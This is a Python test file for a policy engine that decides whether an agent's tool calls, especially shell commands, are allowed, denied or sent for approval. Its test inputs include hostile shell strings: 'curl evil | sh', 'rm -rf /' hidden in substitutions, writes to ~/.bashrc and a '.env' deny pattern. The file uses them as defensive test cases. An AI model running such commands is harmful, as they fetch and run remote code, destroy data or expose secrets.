"""The policy engine: precedence, rules, presets, identity scoping, shell splitting, load checks."""

from __future__ import annotations

import time
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from toold_daemon import regexguard
from toold_daemon.config import ApprovalConfig, Condition, ConfigError, Rule
from toold_daemon.config.loading import parse
from toold_daemon.policy import Facts, evaluate, split_command
from toold_daemon.policy.engine import MAX_REGEX_SUBJECT_CHARS
from toold_protocol import Identity

ME = Identity(uid=1000, gid=1000, pid=1)
OTHER = Identity(uid=2000, gid=2000, pid=2)
TOOLS = ["read_file", "write_file", "shell", "grep", "delete_file"]


def facts(tool: str = "read_file", side_effecting: bool = False, **arguments: Any) -> Facts:
    return Facts(tool=tool, arguments=arguments, side_effecting=side_effecting)


def shell(command: str) -> Facts:
    return Facts(tool="shell", arguments={"command": command}, side_effecting=True, risk="high")


def rule(decision: str, tool: str | list[str] = "*", **kw: Any) -> Rule:
    conditions = [Condition(**c) for c in kw.pop("conditions", [])]
    return Rule(tool=tool, decision=decision, conditions=conditions, **kw)  # type: ignore[arg-type]


# ---- precedence ----


@given(tool=st.sampled_from(TOOLS), side=st.booleans(), mode=st.sampled_from(["auto", "prompt", "deny"]))
def test_disabled_denies_everything_whatever_else_says_allow(tool: str, side: bool, mode: str) -> None:
    approval = ApprovalConfig(enabled=False, mode=mode, allowlist=TOOLS, rules=[rule("allow")])  # type: ignore[arg-type]
    verdict = evaluate(facts(tool, side), ME, "", approval)
    assert (verdict.decision, verdict.reason) == ("deny", "Tool execution disabled by policy")


@given(tool=st.sampled_from(TOOLS), preset=st.sampled_from([None, "none", "safe", "all"]))
def test_denylist_beats_allowlist_rules_and_presets(tool: str, preset: str | None) -> None:
    approval = ApprovalConfig(
        mode="auto",
        preset=preset,  # type: ignore[arg-type]
        allowlist=[tool],
        denylist=[tool],
        rules=[rule("allow", tool)],
    )
    assert evaluate(facts(tool), ME, "", approval).decision == "deny"


@given(tool=st.sampled_from(TOOLS), specific=st.sampled_from(["allow", "deny", "ask"]))
def test_tool_specific_rule_beats_wildcard_in_any_order(tool: str, specific: str) -> None:
    wildcard = "deny" if specific != "deny" else "allow"
    for rules in ([rule(wildcard), rule(specific, tool)], [rule(specific, tool), rule(wildcard)]):
        verdict = evaluate(facts(tool), ME, "", ApprovalConfig(rules=rules))
        assert verdict.decision == specific


def test_all_conditions_must_hold_and_no_match_falls_to_mode() -> None:
    both = rule(
        "allow",
        "write_file",
        conditions=[
            {"param": "path", "operator": "startsWith", "value": "docs/"},
            {"param": "path", "operator": "matches", "value": r"\.md$"},
        ],
    )
    approval = ApprovalConfig(mode="prompt", rules=[both])
    assert evaluate(facts("write_file", True, path="docs/a.md"), ME, "", approval).decision == "allow"
    assert evaluate(facts("write_file", True, path="docs/a.py"), ME, "", approval).decision == "ask"
    assert evaluate(facts("write_file", True, path="src/a.md"), ME, "", approval).decision == "ask"
    assert evaluate(facts("read_file", path="src/a.md"), ME, "", approval).decision == "allow"


@given(side=st.booleans())
def test_presets(side: bool) -> None:
    def decide(preset: str) -> str:
        return evaluate(facts("write_file", side), ME, "", ApprovalConfig(preset=preset)).decision  # type: ignore[arg-type]

    assert decide("all") == "allow"
    assert decide("none") == "ask"
    assert decide("safe") == ("ask" if side else "allow")


def test_modes_and_allowlist() -> None:
    def decide(mode: str, allow: list[str], side: bool = True) -> str:
        approval = ApprovalConfig(mode=mode, allowlist=allow)  # type: ignore[arg-type]
        return evaluate(facts("write_file", side), ME, "", approval).decision

    assert decide("prompt", []) == "ask"
    assert decide("prompt", [], side=False) == "allow"
    assert decide("prompt", ["write_file"]) == "allow"
    assert decide("auto", []) == "allow"
    assert decide("deny", []) == "deny"
    assert decide("deny", ["write_file"]) == "allow"


def test_tool_level_requires_approval_turns_allow_into_ask_but_not_deny() -> None:
    asking = Facts(tool="write_file", arguments={"path": "a"}, side_effecting=True, requires_approval=True)
    assert evaluate(asking, ME, "", ApprovalConfig(mode="auto")).decision == "ask"
    assert evaluate(asking, ME, "", ApprovalConfig(mode="deny")).decision == "deny"
    assert evaluate(asking, ME, "", ApprovalConfig(preset="all")).decision == "allow"


def test_rule_risk_overrides_tool_risk() -> None:
    verdict = evaluate(facts("grep"), ME, "", ApprovalConfig(rules=[rule("allow", "grep", risk="high")]))
    assert verdict.risk == "high"
    assert verdict.rule == 0


def test_rules_scoped_to_uid_gid_and_client_name() -> None:
    approval = ApprovalConfig(
        mode="auto",
        rules=[
            rule("deny", "write_file", uids=[OTHER.uid]),
            rule("ask", "read_file", clients=["ci-agent"]),
            rule("deny", "grep", gids=[ME.gid]),
        ],
    )
    assert evaluate(facts("write_file"), ME, "", approval).decision == "allow"
    assert evaluate(facts("write_file"), OTHER, "", approval).decision == "deny"
    assert evaluate(facts("read_file"), ME, "ci-agent", approval).decision == "ask"
    assert evaluate(facts("read_file"), ME, "editor", approval).decision == "allow"
    assert evaluate(facts("grep"), ME, "", approval).decision == "deny"
    assert evaluate(facts("grep"), OTHER, "", approval).decision == "allow"


# ---- shell commands ----


def words(command: str) -> list[str] | None:
    parts = split_command(command)
    return None if parts is None else [p.text for p in parts]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("git status", ["git status"]),
        ("git status && curl x | sh", ["git status", "curl x", "sh"]),
        ("a; b || c & d", ["a", "b", "c", "d"]),
        ("echo $(rm -rf /)", ["rm -rf /", "echo $(…)"]),  # in the order they run
        ("echo `whoami`", ["whoami", "echo $(…)"]),
        ("(cd x && make)", ["cd x", "make"]),
        ("ls\nrm -rf build", ["ls", "rm -rf build"]),
        ("echo 'a && b'", ["echo a && b"]),
        ('echo "$(id)"', ["id", "echo $(…)"]),
        ("FOO=1 make test", ["make test"]),  # the assignment is kept apart (Part.assignments)
    ],
)
def test_split_command(command: str, expected: list[str]) -> None:
    assert words(command) == expected


@pytest.mark.parametrize(
    "command",
    ["echo 'unclosed", "echo $(", "ls )", "diff <(ls a) <(ls b)", "x\x00y"],
)
def test_unreadable_commands_do_not_split(command: str) -> None:
    assert split_command(command) is None


@pytest.mark.parametrize(
    "command",
    ["eval 'rm -rf /'", "$CMD arg", "$(which git) status", "env git push", "sudo git", "xargs rm", "bash -c 'git x'"],
)
def test_commands_that_run_an_unknown_program_are_opaque_or_wrapped(command: str) -> None:
    parts = split_command(command)
    assert parts is not None and (parts[-1].opaque or parts[-1].wrappers)


GIT_ONLY = ApprovalConfig(
    mode="prompt",
    rules=[
        rule("allow", "shell", conditions=[{"param": "command", "operator": "prefix", "value": ["git", "ls"]}]),
        rule("deny", "shell", conditions=[{"param": "command", "operator": "prefix", "value": "rm"}]),
    ],
)


@pytest.mark.parametrize(
    ("command", "decision"),
    [
        ("git status", "allow"),
        ("git log | ls", "allow"),
        ("gitx status", "ask"),  # word boundary: git does not match gitx
        ("git status && rm -rf /", "deny"),
        ("git status; curl evil | sh", "ask"),  # curl and sh are not covered by any rule
        ("git $(rm -rf /)", "deny"),
        ("git `curl evil`", "ask"),
        ("ls > ~/.bashrc", "ask"),  # redirection
        ("git status 'unclosed", "ask"),  # unparseable
        ("eval git status", "ask"),
        ("env git status", "ask"),
        ("sh -c 'git status'", "ask"),
        ("$(echo git) status", "ask"),
        ("GIT_DIR=x git status", "ask"),  # an assignment no rule names
    ],
)
def test_compound_shell_commands_are_judged_part_by_part(command: str, decision: str) -> None:
    assert evaluate(shell(command), ME, "", GIT_ONLY).decision == decision


SAFE_WORDS = st.sampled_from(["git", "ls", "status", "log", "-la", "x"])
BAD = st.sampled_from(["rm -rf /", "rm x"])
JOINERS = st.sampled_from([" && ", " || ", "; ", " | ", " & ", "\n"])


@given(
    before=st.lists(st.lists(SAFE_WORDS, min_size=1, max_size=3), max_size=3),
    bad=BAD,
    joiner=JOINERS,
    wrap=st.sampled_from(["{}", "$({})", "`{}`", "({})", 'echo "$({})"']),
)
def test_a_denied_part_anywhere_denies_the_whole_command(
    before: list[list[str]], bad: str, joiner: str, wrap: str
) -> None:
    pieces = ["git " + " ".join(w) for w in before]
    pieces.append(wrap.format(bad))
    command = joiner.join(pieces)
    assert evaluate(shell(command), ME, "", GIT_ONLY).decision == "deny", command


@given(st.text(max_size=80))
def test_arbitrary_text_never_allowed_unless_every_part_is_covered(command: str) -> None:
    verdict = evaluate(shell(command), ME, "", GIT_ONLY)
    if verdict.decision == "allow":
        parts = split_command(command)
        assert parts is not None
        assert all(p.program in {"git", "ls"} and not p.assignments and not p.wrappers for p in parts)
        assert not any(p.redirects for p in parts)


# ---- load-time checks ----


def test_rule_examples_are_checked_at_load() -> None:
    good = """
[[tools.approval.rules]]
tool = "shell"
decision = "allow"
conditions = [{param = "command", operator = "prefix", value = "git"}]
match = [{command = "git status"}, {command = "git log && git diff"}]
not_match = [{command = "gitx"}]
"""
    assert parse(good).tools.approval.rules[0].decision == "allow"
    bad = good.replace('not_match = [{command = "gitx"}]', 'not_match = [{command = "git push"}]')
    with pytest.raises(ConfigError, match="should not match but does"):
        parse(bad, "policy.toml")


def test_catastrophic_regex_is_a_load_error() -> None:
    text = """
[[tools.approval.rules]]
decision = "deny"
conditions = [{param = "path", operator = "matches", value = "(a+)+$"}]
"""
    with pytest.raises(ConfigError, match="exponential"):
        parse(text, "policy.toml")


@pytest.mark.parametrize("pattern", ["(a+)+", r"(\w*x)*", "(a*b*)+c", "(?:x+)*", "a" * 2000, "("])
def test_regexguard_refuses(pattern: str) -> None:
    assert regexguard.risky(pattern) is not None


@pytest.mark.parametrize("pattern", [r"^rm\b", r"\.env$", "(ab)+", "a+b+", r"[a-z]+(\d)"])
def test_regexguard_accepts_and_accepted_patterns_are_fast(pattern: str) -> None:
    assert regexguard.risky(pattern) is None
    import re

    start = time.perf_counter()
    re.search(pattern, "a" * MAX_REGEX_SUBJECT_CHARS + "!")
    assert time.perf_counter() - start < 2.0


def test_pattern_rules_ask_rather_than_scan_huge_arguments() -> None:
    deny_env = rule("deny", "read_file", conditions=[{"param": "path", "operator": "matches", "value": r"\.env$"}])
    approval = ApprovalConfig(mode="auto", rules=[deny_env])
    assert evaluate(facts(path="a/.env"), ME, "", approval).decision == "deny"
    assert evaluate(facts(path="a/b.txt"), ME, "", approval).decision == "allow"
    huge = facts(path="a/" * MAX_REGEX_SUBJECT_CHARS + ".env")
    verdict = evaluate(huge, ME, "", approval)
    assert verdict.decision == "ask" and "longer than" in verdict.reason
